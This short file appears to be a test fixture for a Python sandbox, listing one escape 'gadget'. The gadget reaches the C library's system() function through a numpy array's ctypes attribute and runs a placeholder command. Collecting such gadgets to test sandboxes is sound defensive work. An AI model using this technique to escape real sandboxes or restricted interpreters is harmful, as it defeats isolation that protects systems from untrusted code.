# kind: gadgets
# tries: ctypes through the ctypes attribute of an array

import numpy as np

np.zeros(1).ctypes._ctypes.CDLL(None).system(TOUCH.encode())
